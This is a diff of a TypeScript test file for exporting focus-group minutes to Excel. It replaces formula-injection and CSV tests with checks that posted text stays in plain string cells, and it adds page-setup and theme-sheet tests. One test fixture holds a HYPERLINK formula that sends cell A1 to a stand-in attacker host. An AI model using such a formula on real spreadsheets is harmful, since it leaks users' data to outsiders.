@@ -1,8 +1,7 @@
+import ExcelJS from 'exceljs';
 import JSZip from 'jszip';
 import { beforeAll, describe, expect, it } from 'vitest';
-import { neutralise } from './cells';
-import { renderCsv } from './csv';
-import { facilitatedFgd, sampleFgd } from './fixture';
+import { facilitatedFgd, newFgd, sampleFgd } from '$lib/testing/fgd';
 import { buildMinutes, type Minutes } from './model';
 import { renderXlsx } from './xlsx';
 
@@ -34,6 +33,12 @@ function rows(xml: string): string[][] {
 const ENTITIES: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'" };
 const decode = (xml: string) => xml.replace(/&(\w+);/g, (_, name: string) => ENTITIES[name] ?? `&${name};`);
 
+async function loadBook(buffer: Buffer): Promise<ExcelJS.Workbook> {
+	const book = new ExcelJS.Workbook();
+	await book.xlsx.load(buffer as unknown as ArrayBuffer);
+	return book;
+}
+
 let fgd: ReturnType<typeof facilitatedFgd>;
 let id: Minutes;
 let en: Minutes;
@@ -46,38 +51,25 @@ beforeAll(async () => {
 	book = await openXlsx(await renderXlsx(id));
 });
 
-describe('formula injection', () => {
-	it('quotes what a spreadsheet would run, and nothing else', () => {
-		for (const bad of ['=1+1', '+62 812', '-5', '@SUM(A1)', '\tx', '\rx']) expect(neutralise(bad)).toBe(`'${bad}`);
-		for (const fine of ['Akses modal', '62', "'=x", ' =x']) expect(neutralise(fine)).toBe(fine);
-	});
-
-	it('neutralises posted formulas in the CSV and the XLSX', async () => {
+describe('text cells', () => {
+	it('keeps posted formulas as typed, in string cells, without a guard quote', async () => {
 		const small = sampleFgd();
 		const ani = small.join('Ani', 'media', 'Radio Contoh');
 		small.post(ani, 'kendala', '=HYPERLINK("http://evil.example/?d="&A1,"klik")');
+		small.post(ani, 'kendala', '-5% bunga untuk UMKM');
 		small.post(ani, 'kendala', '+62 812 3456 7890 hubungi');
-		const minutes = buildMinutes(small.db, small.session.id, 'id', NOW);
-		const csv = renderCsv(minutes);
-		expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""klik"")"`);
-		expect(csv).toMatch(/,'\+62 81x/);
-		const items = rows((await openXlsx(await renderXlsx(minutes))).get('Masukan')!);
-		const texts = items.map((r) => r[3]);
-		expect(texts).toContain(`'=HYPERLINK("http://evil.example/?d="&A1,"klik")`);
-		expect(texts).toContain("'+62 81x xxxx xx90 hubungi");
-		expect(texts.every((t) => !/^[=+\-@]/.test(t))).toBe(true);
-	});
-});
-
-describe('CSV', () => {
-	it('starts with a BOM and lists every item with its kind, theme, author or anonim, group and votes', () => {
-		const csv = renderCsv(id);
-		expect(csv.startsWith('\uFEFFNo,Jenis,Tema,Masukan,Oleh,Kelompok,Suara\r\n')).toBe(true);
-		const lines = csv.trim().split('\r\n');
-		expect(lines).toHaveLength(id.items.length + 1);
-		expect(lines).toContain('1,Kendala,Permodalan,Akses modal usaha sulit tanpa agunan,Siti Rahmawati,Pemerintah (OPD / kecamatan / desa),4');
-		expect(lines).toContain('7,Rekomendasi,,Forum koordinasi CSR dan OPD setiap triwulan,anonim,,2');
-		expect(renderCsv(en)).toContain('Forum koordinasi CSR dan OPD setiap triwulan,anonymous,,2');
+		const book = await loadBook(await renderXlsx(buildMinutes(small.db, small.session.id, 'id', NOW)));
+		const cells = book.getWorksheet('Masukan')!.getColumn(4).values.filter((v) => v !== undefined && v !== null);
+		expect(cells).toContain('=HYPERLINK("http://evil.example/?d="&A1,"klik")');
+		expect(cells).toContain('-5% bunga untuk UMKM');
+		expect(cells).toContain('+62 81x xxxx xx90 hubungi');
+		for (const sheet of book.worksheets)
+			sheet.eachRow((row) =>
+				row.eachCell((cell) => {
+					expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
+					if (typeof cell.value === 'string') expect(cell.value.startsWith("'"), `${sheet.name}!${cell.address}`).toBe(false);
+				})
+			);
 	});
 });
 
@@ -143,5 +135,53 @@ describe('XLSX', () => {
 	it('keeps an anonymous author out of everything but the attendance list', () => {
 		for (const [name, xml] of book) if (name !== 'Daftar hadir') expect(xml).not.toContain('Rini');
 		expect(book.get('Daftar hadir')).toContain('Rini Anggraini');
+	});
+
+	it('prints every sheet one page wide with its header row on each page, the wide ones landscape', async () => {
+		const sheets = (await loadBook(await renderXlsx(id))).worksheets;
+		const landscape = sheets.filter((s) => s.pageSetup.orientation === 'landscape').map((s) => s.name);
+		expect(landscape).toEqual(['Daftar hadir', 'Masukan', 'Suara per unsur', 'Keterkaitan', 'Rencana tindak lanjut']);
+		for (const sheet of sheets) {
+			expect(sheet.pageSetup, sheet.name).toMatchObject({ fitToPage: true, fitToWidth: 1, fitToHeight: 0, printTitlesRow: '1:1' });
+		}
+		// Excel reads fitToHeight="0" as "as many pages as needed"; left out, it would squeeze the sheet onto one page.
+		expect(book.get('Masukan')).toMatch(/<pageSetup [^>]*fitToWidth="1" fitToHeight="0"/);
+		expect(book.get('Masukan')).toMatch(/<sheetPr>[\s\S]*<pageSetUpPr fitToPage="1"/);
+	});
+});
+
+describe('the Tema sheet', () => {
+	const themeSheet = async (minutes: Minutes) => {
+		const sheet = (await loadBook(await renderXlsx(minutes))).worksheets[4];
+		return sheet.getSheetValues().filter(Boolean).map((row) => (row as unknown[]).slice(1));
+	};
+
+	it("gives the dots on each theme's contributions when the contributions were voted on", async () => {
+		expect(await themeSheet(id)).toEqual([
+			['No', 'Tema', 'Jumlah masukan', 'Suara pada masukan'],
+			[1, 'Permodalan', 1, 4],
+			[2, 'Pemasaran', 1, 3]
+		]);
+	});
+
+	it('gives the dots on the theme itself when the themes were voted on', async () => {
+		const small = newFgd();
+		const ani = small.join('Ani', 'media', 'Radio Contoh');
+		small.post(ani, 'kendala', 'Modal usaha sulit');
+		small.run('facilitator', { type: 'theme.create', name: 'Permodalan' });
+		const theme = small.db.prepare('SELECT id FROM themes WHERE session_id = ?').get(small.session.id) as { id: string };
+		small.run('facilitator', { type: 'phase.set', phase: 'voting' });
+		small.run('facilitator', { type: 'voting.settings', target: 'themes' });
+		small.run(ani, { type: 'vote.set', targetId: theme.id, count: 3 });
+		expect(await themeSheet(buildMinutes(small.db, small.session.id, 'en', NOW))).toEqual([
+			['No', 'Theme', 'Contributions', 'Votes'],
+			[1, 'Permodalan', 0, 3]
+		]);
+	});
+
+	it('has no votes column when nobody voted', async () => {
+		const small = sampleFgd();
+		small.run('facilitator', { type: 'theme.create', name: 'Permodalan' });
+		expect((await themeSheet(buildMinutes(small.db, small.session.id, 'id', NOW)))[0]).toEqual(['No', 'Tema', 'Jumlah masukan']);
 	});
 });
